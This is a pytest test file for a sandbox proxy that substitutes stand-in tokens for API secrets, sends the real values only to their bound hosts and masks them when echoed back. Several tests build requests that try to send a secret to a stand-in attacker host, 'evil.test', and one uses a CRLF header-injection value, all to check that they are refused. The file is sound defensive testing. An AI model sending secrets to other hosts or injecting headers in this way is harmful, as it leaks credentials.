"""Stand-ins: where they are replaced, and where they are stopped."""

import base64
import json

import httpx
import pytest
from pydantic import SecretStr

from sandbox.contract import BoundSecret
from sandbox.echoes import Echoes
from sandbox.hosts import Refused, Target
from sandbox.outgoing import Outgoing, Timeouts
from sandbox.secrets import Secrets

VALUE = 'k/ey "+&=é\\'
PLAIN = "plain-value-1"
API = Target("api.x.org", 443, may_be_private=False, is_encrypted=True)
OTHER = Target("evil.test", 443, may_be_private=False, is_encrypted=True)


def of(value: str = VALUE, *hosts: str, trial: bool = False) -> Secrets:
    bound = BoundSecret(value=SecretStr(value), hosts=hosts or ("api.x.org",))
    return Secrets.of({"KEY": bound}, trial=trial)


def outgoing(url: str = "https://api.x.org/v1", body: bytes = b"", **headers: str) -> Outgoing:
    pairs = [(k.replace("_", "-").encode(), v.encode()) for k, v in headers.items()]
    return Outgoing("POST", httpx.URL(url), pairs, body, Timeouts())


def test_a_bound_secret_is_a_stand_in_of_this_call_alone() -> None:
    one, other = of().given["KEY"], of().given["KEY"]

    assert VALUE not in one
    assert one != other
    assert one.isalnum()
    assert len(one) >= 40


def test_a_secret_without_hosts_is_its_value() -> None:
    assert Secrets.of({"KEY": BoundSecret(value=SecretStr("v"))}).given == {"KEY": "v"}


def test_a_trial_has_dummies_only() -> None:
    sent = {
        "FREE": BoundSecret(value=SecretStr(PLAIN)),
        "BOUND": BoundSecret(value=SecretStr(PLAIN), hosts=("api.x.org",)),
    }
    secrets = Secrets.of(sent, trial=True)

    filled, _ = secrets.put_into(outgoing(X_Key=secrets.given["BOUND"]), API)

    assert secrets.given["FREE"] == "dummy-FREE"
    assert filled.headers[0] == (b"X-Key", b"dummy-BOUND")


def test_it_is_put_into_headers() -> None:
    secrets = of(PLAIN)
    given = secrets.given["KEY"]

    filled, _ = secrets.put_into(
        outgoing(Authorization=f"Bearer {given}", Cookie=f"a={given}"), API
    )

    assert filled.headers[:2] == [
        (b"Authorization", f"Bearer {PLAIN}".encode()),
        (b"Cookie", f"a={PLAIN}".encode()),
    ]


def test_it_is_put_into_basic_authentication() -> None:
    secrets = of()
    pair = base64.b64encode(f"me:{secrets.given['KEY']}".encode()).decode()

    filled, echoes = secrets.put_into(outgoing(Authorization=f"Basic {pair}"), API)

    sent = filled.headers[0][1].removeprefix(b"Basic ")
    assert base64.b64decode(sent).decode() == f"me:{VALUE}"
    assert echoes.hidden(b'{"you sent": "Basic ' + sent + b'"}').decode() == (
        f'{{"you sent": "Basic {pair}"}}'
    )


def test_it_is_put_into_path_and_query_percent_encoded() -> None:
    secrets = of()
    given = secrets.given["KEY"]

    filled, _ = secrets.put_into(outgoing(f"https://api.x.org/bot{given}/me?key={given}&b=1"), API)

    assert httpx.URL(str(filled.url)).params["key"] == VALUE
    assert filled.url.raw_path.startswith(b"/botk%2Fey%20%22%2B%26%3D%C3%A9%5C/me?")
    assert filled.url.host == "api.x.org"


def test_it_is_put_into_json_forms_xml_and_text() -> None:
    secrets = of()
    given = secrets.given["KEY"]

    def body(kind: str, text: str) -> str:
        filled, _ = secrets.put_into(outgoing(body=text.encode(), Content_Type=kind), API)
        assert (b"Content-Length", str(len(filled.body)).encode()) in filled.headers_for(API)
        return filled.body.decode()

    assert json.loads(body("application/json; charset=utf-8", f'{{"k": "{given}"}}')) == {
        "k": VALUE
    }
    assert json.loads(body("application/vnd.x+json", f'["{given}"]')) == [VALUE]
    assert httpx.QueryParams(body("application/x-www-form-urlencoded", f"k={given}&l=2")) == (
        httpx.QueryParams({"k": VALUE, "l": "2"})
    )
    assert body("text/xml", f"<a>{given}</a>") == "<a>k/ey &quot;+&amp;=é\\</a>"
    assert body("multipart/form-data; boundary=b", f"--b\r\n\r\n{given}") == f"--b\r\n\r\n{VALUE}"


@pytest.mark.parametrize("place", ["header", "basic", "query", "body", "user agent", "name"])
def test_it_is_stopped_on_the_way_to_any_other_host(place: str) -> None:
    secrets = of()
    given = secrets.given["KEY"]
    pair = base64.b64encode(f"{given}:".encode()).decode()
    asked = {
        "header": outgoing("https://evil.test/", X_Key=f"a{given}b"),
        "basic": outgoing("https://evil.test/", Authorization=f"basic  {pair}"),
        "query": outgoing(f"https://evil.test/?a={given}"),
        "body": outgoing("https://evil.test/", body=f"a{given}".encode()),
        "user agent": outgoing("https://evil.test/", User_Agent=given),
        "name": outgoing("https://evil.test/", b"", **{given.upper(): "1"}),
    }[place]

    with pytest.raises(Refused) as refused:
        secrets.put_into(asked, OTHER)

    assert str(refused.value) == "the secret 'KEY' may be sent to api.x.org only, not to evil.test"


@pytest.mark.parametrize(
    ("bound", "target", "fits"),
    [
        ("api.x.org", API, True),
        ("*.x.org", API, True),
        ("x.org", API, False),
        ("api.x.org:8443", API, False),
        ("api.x.org", API._replace(port=8443), False),
        ("api.x.org", API._replace(port=80, is_encrypted=False), False),
        ("api.x.org:80", API._replace(port=80, is_encrypted=False), True),
    ],
)
def test_it_goes_to_its_hosts_and_in_the_clear_only_to_a_named_port(
    bound: str, target: Target, *, fits: bool
) -> None:
    secrets = of(PLAIN, bound)
    asked = outgoing(X_Key=secrets.given["KEY"])

    if fits:
        assert secrets.put_into(asked, target)[0].headers[0] == (b"X-Key", PLAIN.encode())
    else:
        with pytest.raises(Refused, match="secret 'KEY'"):
            secrets.put_into(asked, target)


def test_it_never_becomes_part_of_a_host_name_or_of_a_headers_name() -> None:
    secrets = of(PLAIN, "*.x.org")
    given = secrets.given["KEY"]

    with pytest.raises(Refused, match="host name"):
        secrets.put_into(outgoing(f"https://{given}.x.org/"), API._replace(host=f"{given}.x.org"))
    with pytest.raises(Refused, match="name of a header"):
        secrets.put_into(outgoing("https://api.x.org/", b"", **{given: "1"}), API)


def test_a_value_that_would_end_its_header_is_refused_without_being_shown() -> None:
    secrets = of("first\r\nHost: evil.test")

    with pytest.raises(Refused) as refused:
        secrets.put_into(outgoing(X_Key=secrets.given["KEY"]), API)

    assert "evil" not in str(refused.value)


def test_no_representation_shows_a_value() -> None:
    assert PLAIN not in repr(of(PLAIN))
    assert PLAIN not in repr(vars(of(PLAIN)))


def test_the_answer_of_its_host_is_asked_for_uncompressed() -> None:
    asked = outgoing(Accept_Encoding="gzip, br")

    assert of().put_into(asked, API)[0].headers == [(b"Accept-Encoding", b"identity")]
    assert of().put_into(asked, OTHER)[0].headers == asked.headers


def test_an_echo_shows_the_stand_in_in_every_usual_form() -> None:
    secrets = of()
    stand_in = secrets.given["KEY"]
    _, echoes = secrets.put_into(outgoing(), API)
    forms = [
        VALUE,
        json.dumps(VALUE)[1:-1],
        json.dumps(VALUE, ensure_ascii=False)[1:-1],
        json.dumps(VALUE)[1:-1].replace("/", "\\/"),
        str(httpx.QueryParams({"": VALUE}))[1:],
        "k%2Fey%20%22%2B%26%3D%C3%A9%5C",
    ]

    for form in forms:
        assert echoes.hidden_text(f"<{form}>") == f"<{stand_in}>"


def test_a_short_value_is_not_looked_for_in_answers() -> None:
    """It would be found by chance, and by guessing."""
    secrets = of("1234567")

    assert not secrets.put_into(outgoing(), API)[1]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
def test_an_echo_is_found_across_the_borders_of_chunks(size: int) -> None:
    text = b"..secret-one, secret-on, secret-two; secretsecret-one" + b"secret-one" * 3 + b"secr"
    needles = {b"secret-one": b"<1>", b"secret-two": b"<2>"}
    echoes = Echoes(needles)

    parts = [echoes.feed(text[i : i + size]) for i in range(0, len(text), size)]
    hidden = b"".join(parts) + echoes.rest()

    assert hidden == text.replace(b"secret-one", b"<1>").replace(b"secret-two", b"<2>")


def test_whole_lines_pass_at_once() -> None:
    echoes = Echoes({b"secret-one": b"<1>"})

    assert echoes.feed(b"data: 1\n\n") == b"data: 1\n\n"
    assert echoes.feed(b"data: secret-o") == b""
    assert echoes.feed(b"ne\n\n") == b"data: <1>\n\n"


@pytest.mark.parametrize("value", ["secret-one", "secret-one-that-is-longer", "secret\none"])
def test_what_is_held_back_tells_nothing_of_a_secret(value: str) -> None:
    """Else a host that says back whatever it is sent helps to guess it, character by character."""

    def lengths(text: str) -> list[int]:
        echoes = Echoes({value.encode(): b"<1>"})
        return [len(echoes.feed(text.encode())), len(echoes.rest())]

    for length in range(1, len(value)):
        guesses = [value[:length], "x" * length, value[: length - 1] + "x"]
        for before in ("", "." * 300):
            assert len({tuple(lengths(before + guess)) for guess in guesses}) == 1


@pytest.mark.parametrize("place", ["body", "header", "basic"])
def test_a_small_request_does_not_become_a_huge_one(place: str) -> None:
    secrets = of("k" * 2**20)
    many = secrets.given["KEY"] * 100
    asked = {
        "body": outgoing(body=many.encode()),
        "header": outgoing(authorization=many),
        "basic": outgoing(authorization=f"Basic {base64.b64encode(many.encode()).decode()}"),
    }[place]

    with pytest.raises(Refused, match="'KEY'"):
        secrets.put_into(asked, API)
